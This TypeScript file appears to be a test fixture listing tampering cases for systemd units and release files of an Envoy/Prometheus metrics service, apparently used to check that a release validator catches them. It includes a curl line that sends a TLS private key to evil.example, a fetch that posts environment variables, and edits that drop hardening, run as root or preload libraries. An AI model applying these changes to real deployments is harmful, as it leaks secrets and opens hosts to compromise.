import { type Malicious, release, text } from "./table.ts";

const envoyUnit = /metrics-link-envoy\.service$/;
const prometheusUnit = /metrics-link-prometheus\.service$/;

/** Changes of systemd units. */
export const units: readonly Malicious[] = [
  [
    "receiver",
    "a quoted flag sets Envoy's configuration",
    "receiver-release",
    /envoy\.service.*"--config-yaml/s,
    (it) =>
      text(it, envoyUnit, (unit) => unit.replace("--concurrency 2", `"--config-yaml={admin: {}}" --concurrency 2`)),
  ],
  [
    "receiver",
    "a flag is on a continuation line",
    "receiver-release",
    /prometheus\.service.*web\.enable-admin-api/s,
    (it) =>
      text(it, prometheusUnit, (unit) =>
        unit.replace("--log.format=json", "--log.format=json \\\n  --web.enable-admin-api"),
      ),
  ],
  [
    "receiver",
    "a flag comes from a variable",
    "receiver-release",
    /envoy\.service.*\$MORE/s,
    (it) =>
      text(it, envoyUnit, (unit) =>
        unit
          .replace("--concurrency 2", "$MORE")
          .replace("[Service]", "[Service]\nEnvironment=MORE=--config-path=/tmp/x"),
      ),
  ],
  [
    "receiver",
    "ExecStart has a blank before the equals sign",
    "receiver-release",
    /envoy\.service.*ExecStart =/s,
    (it) => text(it, envoyUnit, (unit) => unit.replace("[Install]", "ExecStart =\nExecStart =/bin/true\n\n[Install]")),
  ],
  [
    "receiver",
    "root runs a command before the service starts",
    "receiver-release",
    /envoy\.service.*ExecStartPre=\+/s,
    (it) => text(it, envoyUnit, (unit) => unit.replace("ExecStart=", "ExecStartPre=+/bin/sh -c id\nExecStart=")),
  ],
  [
    "receiver",
    "--config-yaml overrides the configuration file",
    "receiver-release",
    /envoy\.service.*--config-yaml/s,
    (it) => text(it, envoyUnit, (unit) => unit.replace("--concurrency 2", "--config-yaml {} --concurrency 2")),
  ],
  [
    "receiver",
    "flags come from a file",
    "receiver-release",
    /prometheus\.service.*@\/tmp\/flags/s,
    (it) => text(it, prometheusUnit, (unit) => unit.replace("--log.format=json", "@/tmp/flags")),
  ],
  [
    "receiver",
    "hardening is removed",
    "receiver-release",
    /envoy\.service.*ProtectSystem=strict/s,
    (it) => text(it, envoyUnit, (unit) => unit.replace("ProtectSystem=strict\n", "")),
  ],
  [
    "receiver",
    "User= is removed, so Envoy runs as root",
    "receiver-release",
    /envoy\.service.*User=envoy/s,
    (it) => text(it, envoyUnit, (unit) => unit.replace("User=envoy\n", "")),
  ],
  [
    "receiver",
    "a capability is added",
    "receiver-release",
    /envoy\.service.*CAP_SYS_PTRACE/s,
    (it) => text(it, envoyUnit, (unit) => unit.replace("AmbientCapabilities=", "AmbientCapabilities=CAP_SYS_PTRACE")),
  ],
  [
    "receiver",
    "Prometheus listens on every address",
    "receiver-release",
    /prometheus\.service.*0\.0\.0\.0:9090/s,
    (it) => text(it, prometheusUnit, (unit) => unit.replace("127.0.0.1:9090", "0.0.0.0:9090")),
  ],
  [
    "receiver",
    "a timer is added",
    "receiver-release",
    /systemd\/evil\.timer/,
    (it) =>
      release(it, ({ files }) =>
        files.push({
          path: "systemd/evil.timer",
          content: "[Timer]\nOnCalendar=minutely\n",
          mode: "0644",
          owner: "root",
          group: "root",
        }),
      ),
  ],
  [
    "receiver",
    "a drop-in for sshd is added",
    "receiver-release",
    /systemd\/ssh\.service\.d/,
    (it) =>
      release(it, ({ files }) =>
        files.push({
          path: "systemd/ssh.service.d/x.conf",
          content: "[Service]\nExecStartPre=/bin/true\n",
          mode: "0644",
          owner: "root",
          group: "root",
        }),
      ),
  ],
  [
    "receiver",
    "the drain script sends the key away",
    "receiver-release",
    /drain\.sh.*evil\.example/s,
    (it) =>
      text(
        it,
        /^envoy\/drain\.sh$/,
        (script) =>
          `${script}curl --silent --data-binary @/opt/metrics-link/current/tls/private-key.pem https://evil.example\n`,
      ),
  ],
  [
    "receiver",
    "a library is preloaded into Envoy",
    "receiver-release",
    /envoy\.service.*LD_PRELOAD/s,
    (it) => text(it, envoyUnit, (unit) => unit.replace("[Service]", "[Service]\nEnvironment=LD_PRELOAD=/tmp/x.so")),
  ],
  [
    "receiver",
    "a failure starts another unit",
    "receiver-release",
    /envoy\.service.*OnFailure=/s,
    (it) => text(it, envoyUnit, (unit) => unit.replace("[Unit]", "[Unit]\nOnFailure=debug-shell.service")),
  ],
  [
    "receiver",
    "the process with the key may dump core",
    "receiver-release",
    /envoy\.service.*LimitCORE/s,
    (it) => text(it, envoyUnit, (unit) => unit.replace("LimitNOFILE=65536", "LimitNOFILE=65536\nLimitCORE=infinity")),
  ],
  [
    "sender",
    "the repairer's program is changed",
    "sender-release",
    /repair\.mjs.*process\.env/s,
    (it) =>
      text(
        it,
        /^repair\/repair\.mjs$/,
        (program) => `${program}\nfetch("http://127.0.0.1:9091",{body:JSON.stringify(process.env)})`,
      ),
  ],
];
